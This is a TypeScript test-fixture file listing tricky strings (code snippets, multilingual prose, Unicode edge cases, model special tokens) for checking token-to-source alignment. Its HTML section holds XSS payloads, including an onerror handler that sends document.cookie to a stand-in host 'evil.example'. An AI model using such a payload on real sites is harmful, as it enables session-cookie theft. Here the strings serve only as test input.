// Hand-written strings that stress token -> source alignment: code in many languages, prose,
// markdown, and Unicode edge cases (surrogate pairs, ZWJ sequences, flags, combining marks, CJK,
// RTL, zero-width characters, BOM, NBSP, CRLF, control characters, lone surrogates), plus a
// deterministic generated section that splices the nastiest pieces together.
//
// Non-printable characters are written as \u escapes so this file stays readable.

const CODE: string[] = [
  // TypeScript / JavaScript
  'export function add(a: number, b: number): number {\n  return a + b;\n}\n',
  "const greet = (name: string) => `Hello, ${name}!`;",
  'interface User { id: number; name?: string; tags: readonly string[] }',
  'type DeepPartial<T> = { [K in keyof T]?: DeepPartial<T[K]> };',
  'for (let i = 0; i < arr.length; i++) { sum += arr[i] ** 2; }',
  'const re = /^(?:[a-z0-9!#$%&\'*+/=?^_`{|}~-]+)@example\\.com$/i;',
  "import { readFile } from 'node:fs/promises';\nawait readFile(path, 'utf8');",
  'x?.y ?? z; a ||= b; c &&= d; e >>>= 2; f !== g;',
  '// TODO(someone): fix this\r\n/* block\r\n   comment */\r\nlet crlf = true;\r\n',
  'class Foo<T extends object> extends Bar implements Baz {\n\tprivate readonly map = new Map<string, T>();\n}',
  'console.log("emoji in a string: 🚀✨", \'tab\\there\');',
  'const 変数 = "日本語"; let переменная = 42; var ñandú = true;',
  // Python
  'def fib(n: int) -> int:\n    return n if n < 2 else fib(n - 1) + fib(n - 2)\n',
  'async def main():\n\tawait asyncio.sleep(0.5)\n\tprint(f"{value!r:>10}")\n',
  '@dataclass(frozen=True)\nclass Point:\n    x: float = 0.0\n    y: float = 0.0\n',
  'squares = [x**2 for x in range(10) if x % 2 == 0]  # comment',
  "lambda *args, **kwargs: (args, kwargs)",
  'print(r"raw \\n string", b"\\x00\\xff", """triple""")',
  // Rust
  'fn main() {\n    let v: Vec<i32> = (0..10).map(|x| x * 2).collect();\n    println!("{:?}", v);\n}',
  "impl<'a, T: Clone + Send> Iterator for Iter<'a, T> { type Item = &'a T; }",
  'match opt { Some(ref x) if *x > 0 => x, _ => &0 }',
  '#[derive(Debug, Clone, PartialEq)]\npub struct Span { start: usize, end: usize }',
  // C / C++
  '#include <stdio.h>\nint main(int argc, char **argv) {\n\tprintf("%s\\n", argv[0]);\n\treturn 0;\n}',
  'std::vector<std::unique_ptr<Node>> nodes; nodes.emplace_back(new Node{});',
  '#define MAX(a, b) ((a) > (b) ? (a) : (b))',
  'unsigned long long x = 0xDEADBEEFULL >> 3u; x ^= ~x & 0b1010;',
  // Go / Java / C#
  'func (s *Server) ServeHTTP(w http.ResponseWriter, r *http.Request) {\n\tdefer r.Body.Close()\n}',
  'public static void main(String[] args) { System.out.println("Hi"); }',
  'var q = from c in customers where c.City == "London" select c;',
  // SQL
  "SELECT u.id, COUNT(*) AS n FROM users u LEFT JOIN orders o ON o.user_id = u.id WHERE u.name LIKE '%O''Brien%' GROUP BY u.id HAVING n > 1;",
  "INSERT INTO t (a, b) VALUES (1, 'x'), (2, NULL); -- comment\nDROP TABLE IF EXISTS \"Weird Name\";",
  "SELECT * FROM logs WHERE ts >= '2024-01-01T00:00:00Z' AND level IN ('WARN','ERROR');",
  // HTML / CSS
  '<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><title>Test &amp; more</title></head>',
  '<script>alert("xss"); document.cookie = "a=b";</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="fetch(\'//evil.example/\'+document.cookie)">',
  '<a href="javascript:void(0)" onclick="return false;">click &nbsp; here</a>',
  '<div class="a b" data-x=\'{"k": [1,2]}\'>&lt;escaped&gt; &#x1F600; &#128512;</div>',
  '.btn:hover > span::before { content: "\\201C"; color: #ff00ff !important; }',
  '@media (max-width: 600px) { body { font: 12px/1.5 "Helvetica Neue", sans-serif; } }',
  // JSON / YAML / TOML
  '{"name": "attention-lens", "version": "0.1.0", "nested": {"arr": [1, 2.5, -3e10, true, null]}}',
  '{"unicode": "\\u00e9\\ud83d\\ude00", "emoji": "😀", "escaped": "line\\nbreak"}',
  'key: value\nlist:\n  - item1\n  - "item 2"\nanchor: &a {x: 1}\nref: *a\n',
  '[package]\nname = "demo"\nversion = "1.0.0"\n[dependencies]\nserde = { version = "1", features = ["derive"] }',
  // Regexes
  '(?<year>\\d{4})-(?<month>0[1-9]|1[0-2])-(?<day>\\d{2})',
  '^\\s*(?:#|//)\\s*(TODO|FIXME)\\b.*$',
  '[\\p{L}\\p{M}]+|[^\\x00-\\x7F]',
  // Shell
  '#!/usr/bin/env bash\nset -euo pipefail\nfor f in *.txt; do echo "$f" | tr a-z A-Z >> out.log; done',
  'find . -name "*.ts" -print0 | xargs -0 grep -n "TODO" 2>/dev/null || true',
  "awk -F'\\t' '{ print $1 }' file.tsv | sort | uniq -c | sort -rn | head",
  'export PATH="$HOME/.local/bin:$PATH"; alias ll=\'ls -la\'',
  // Makefile (tabs), diff
  'all: build\n\tnpm run build\n\t@echo done\n',
  '--- a/file.ts\n+++ b/file.ts\n@@ -1,3 +1,4 @@\n-const a = 1;\n+const a = 2;\n+const b = 3;\n',
  // Markdown
  '# Title\n\nSome *emphasis*, **bold**, `code`, and a [link](https://example.com).\n',
  '| col A | col B |\n|------:|:------|\n| 1     | two   |\n',
  '```ts\nconst x = 1;\n```\n\n> quote\n> - nested list\n',
  '- [ ] todo\n- [x] done\n\n1. first\n2. second\n\n---\n',
  '![alt text](img.png "title") <https://auto.link> footnote[^1]\n\n[^1]: note',
];

const PROSE: string[] = [
  'Hello, world!',
  'Once upon a time, there was a little girl named Lily.',
  'Once upon a time, there was a little girl named Lily. She loved to play outside in the park.',
  'The quick brown fox jumps over the lazy dog.',
  "It's a dog's life, isn't it? We'll see; they'd've known.",
  '“Smart quotes” and ‘single ones’ — with an em dash… and an ellipsis.',
  'Mr. Smith paid $1,234.56 (about €1.100,00) on 2024-03-15 at 14:30.',
  'e.g., i.e., etc., vs. U.S.A. — abbreviations everywhere!',
  'She said: "Don\'t!" He replied: \'Why not?\'',
  'A sentence with  double  spaces and a trailing space ',
  ' leading space',
  'Tab\tseparated\tvalues\there',
  'Line one\nLine two\r\nLine three\rLine four',
  'naïve café résumé façade coöperate',
  'Ünïcödé',
  'Straße STRASSE groß ẞ',
  'İstanbul ıi İI',
  'ΟΔΥΣΣΕΥΣ ΣΟΦΟΣ σοφός Σ',
  'Привет, мир! Съешь же ещё этих мягких французских булок.',
  'Γειά σου Κόσμε',
  'Zażółć gęślą jaźń',
  'Ça va? Où est la bibliothèque? À bientôt!',
  'Dvořák, Smetana, Janáček',
  'Ærøskøbing, Þórr, Ðoðo',
];

const UNICODE: string[] = [
  // Emoji: surrogate pairs, skin tones, ZWJ sequences, flags, keycaps, variation selectors
  '👋',
  '👋🏽',
  'Hi 👋🏽 there',
  '👨‍👩‍👧‍👦',
  'family: 👨\u200d👩\u200d👧\u200d👦 end',
  '🏳️‍🌈 🏴‍☠️',
  '🇺🇸🇬🇧🇯🇵',
  'flags 🇫🇷 and 🇩🇪!',
  '🏴\udb40\udc67\udb40\udc62\udb40\udc73\udb40\udc63\udb40\udc74\udb40\udc7f',
  '1️⃣ 2️⃣ #️⃣ *️⃣',
  '❤️ ❤ ♥️ ☺️',
  '😀😃😄😁😆😅😂🤣',
  '🧑🏿‍💻 👩🏼‍🔬',
  'a😀b😀c',
  '😀'.repeat(40),
  // Combining characters
  'e\u0301 vs \u00e9',
  'cafe\u0301',
  'n\u0303o\u0308',
  'Z\u0351\u0356\u0339a\u0300\u0301\u0302l\u0303\u0304g\u0305\u0306o\u0307\u0308',
  'a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b',
  '\u0301 leading combining mark',
  'x\u20dd \u0031\u20e3',
  // CJK
  '中文字符和English混合',
  '我爱自然语言处理。',
  '日本語のテキスト、カタカナ、ひらがな。',
  'ｶﾀｶﾅ 半角 ＡＢＣ１２３ 全角',
  '한국어 텍스트입니다',
  '\u1112\u1161\u11ab\u1100\u1173\u11af',
  '𠀋𠀀𪚥 astral CJK',
  '漢字かな交じり文',
  // RTL and bidi
  'مرحبا بالعالم',
  'العَرَبِيَّة مع تشكيل',
  'שָׁלוֹם עוֹלָם',
  'English עברית English',
  'abc \u202eRLO override\u202c def',
  'left\u200eLRM\u200fRLM\u061cALM',
  'x = "مرحبا"; // comment',
  // Indic and Southeast Asian
  'नमस्ते दुनिया',
  'हिन्दी में क्षत्रिय और ज्ञान',
  'ภาษาไทยไม่มีช่องว่าง',
  'สวัสดีครับ ผมชื่อ',
  'தமிழ் மொழி',
  'বাংলা ভাষা',
  'ខ្មែរ',
  'ᐃᓄᒃᑎᑐᑦ',
  // Zero-width and invisible
  'zero\u200bwidth\u200bspace',
  'join\u200cnon\u200djoin',
  'word\u2060joiner',
  '\ufeffBOM at start',
  'BOM\ufeffin middle',
  'soft\u00adhyphen',
  'nbsp\u00a0here and\u202fnarrow',
  'ideographic\u3000space',
  'line\u2028sep\u2029para',
  'en\u2002em\u2003thin\u2009hair\u200a',
  '\u200b',
  '\u200d\u200d\u200d',
  '\ufeff',
  // Control characters
  'bell\u0007 and escape \u001b[31mred\u001b[0m',
  'null\u0000char',
  'del\u007fchar',
  'c1\u0085nel\u0080\u009f',
  'form\ffeed\vvertical',
  '\u0001\u0002\u0003',
  // Specials and oddities
  'private\ue000use\uf8ff',
  'replacement \ufffd char',
  'lone \ud800 high',
  'lone \udc00 low',
  'reversed \udc00\ud800 pair',
  'noncharacter \uffff \ufffe',
  'variation\ufe0f selector\ufe0e',
  'ﬁ ﬂ ﬀ ligatures',
  '① ② ⑳ Ⅻ ½ ¾ ² ³ ¹',
  'ℌ𝔢𝔩𝔩𝔬 𝐁𝐨𝐥𝐝 𝓢𝓬𝓻𝓲𝓹𝓽',
  // Math and symbols
  '∀x∈ℝ: x² ≥ 0 ∧ √x ≤ ∞',
  '∑_{i=1}^{n} i = n(n+1)/2 ≠ ∏',
  'a ≤ b ≥ c ≈ d ≡ e ⊂ f ∪ g ∩ h',
  '→ ← ↑ ↓ ⇒ ⇔ ∘ ⊕ ⊗',
  '© ® ™ § ¶ † ‡ • ° ± × ÷',
  '₿ ¥ £ € ₹ ₽ ¢',
  '∫₀¹ f(x) dx',
  '🄰🄱🄲 ⓐⓑⓒ',
  // Literal special tokens
  '[CLS]',
  '[CLS] hello [SEP] world [SEP]',
  'x[SEP]y[MASK]z[UNK]',
  '[PAD][PAD] [unk] [cls]',
  '<s>',
  '<s> hello </s>',
  '<s><s></s></s>',
  '<unk> token',
  '<|endoftext|>',
  'before<|endoftext|>after',
  '<|endoftext|><|endoftext|>',
  '<|endoftext| > <| endoftext|>',
  '[CLS]<s><|endoftext|>',
];

const SHAPES: string[] = [
  '',
  ' ',
  '  ',
  '\t',
  '\n',
  '\r\n',
  '\r\n\r\n',
  ' \t \n ',
  '\n\n\n',
  '\u00a0',
  '   hello   ',
  'a',
  'A',
  '.',
  '...',
  '!!!???!!!',
  '----====****',
  '<<<>>>|||&&&',
  '~~~```"""\'\'\'',
  '(((nested)))',
  '...,,,;;;:::',
  '#hashtag @mention $var %mod ^caret &amp *star',
  '3.14159 2.71828 1e-10 -0.0 +42 0xFF 0b1010 0o777',
  '1,000,000 1.000.000 1 000 000',
  '2024-01-15T12:34:56.789+05:30',
  'v1.2.3-beta.4+build.567',
  '(555) 123-4567 +1-800-FLOWERS',
  'https://user:pass@example.com:8080/path/to/page.html?q=a+b&x=%20y#frag',
  'mailto:someone@example.org ftp://files.example.net/pub/',
  'C:\\Users\\Name\\Documents\\file.txt',
  '/usr/local/lib/node_modules/@scope/pkg/dist/index.js',
  'a'.repeat(300),
  'b'.repeat(101),
  'x'.repeat(99),
  'supercalifragilisticexpialidocious',
  'pneumonoultramicroscopicsilicovolcanoconiosis',
  'Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch',
  '1234567890'.repeat(12),
  'aGVsbG8gd29ybGQgdGhpcyBpcyBhIGJhc2U2NCBibG9iIHRoYXQgZ29lcyBvbiBhbmQgb24=',
  'ab'.repeat(80) + ' ' + 'é'.repeat(120),
  'word '.repeat(60).trim(),
  '.'.repeat(200),
  'MixedCASE camelCase snake_case SCREAMING_CASE kebab-case',
  'HTTPServerError XMLHttpRequest iOS macOS',
  "don't won't can't I'm you're it's",
  '"quoted" \'single\' `back`',
  'tabs\t\t\tand spaces   mixed \t \t',
  'trailing newline\n',
  '\nleading newline',
  'CR only\rline',
  'a\r\n\r\nb',
];

/** Pieces the generated section splices together (deterministically). */
const ATOMS: string[] = [
  'hello',
  'World',
  '👋🏽',
  '👨‍👩‍👧',
  '🇯🇵',
  'e\u0301',
  'naïve',
  '中文',
  '한국',
  'مرحبا',
  'שלום',
  'नमस्ते',
  'ไทย',
  '\u200b',
  '\ufeff',
  '\u00a0',
  '\r\n',
  '\t',
  '  ',
  '[SEP]',
  '<s>',
  '<|endoftext|>',
  '123.45',
  '!!!',
  '=>',
  '\u0007',
  '𠀋',
  'ΣΑΣ',
  'İ',
  'ﬁ',
  '\ud83d',
  'x'.repeat(40),
];

const SEPARATORS = ['', ' ', '\n', '\t', '-', '  ', '\u3000', ', '];

/** Deterministic pseudo-random splices of ATOMS (a fixed linear congruential generator). */
function generated(count: number): string[] {
  let seed = 0x2545f491;
  const next = () => {
    seed = (Math.imul(seed, 1103515245) + 12345) >>> 0;
    return seed >>> 8;
  };
  const out: string[] = [];
  for (let i = 0; i < count; i++) {
    const parts = 2 + (next() % 4);
    let s = '';
    for (let j = 0; j < parts; j++) {
      if (j) s += SEPARATORS[next() % SEPARATORS.length];
      s += ATOMS[next() % ATOMS.length];
    }
    out.push(s);
  }
  // Every atom next to every other one once, back to back (no separator).
  for (let i = 0; i < ATOMS.length; i++) out.push(ATOMS[i] + ATOMS[(i * 7 + 3) % ATOMS.length]);
  return out;
}

export const TRICKY_STRINGS: string[] = [...CODE, ...PROSE, ...UNICODE, ...SHAPES, ...generated(60)];
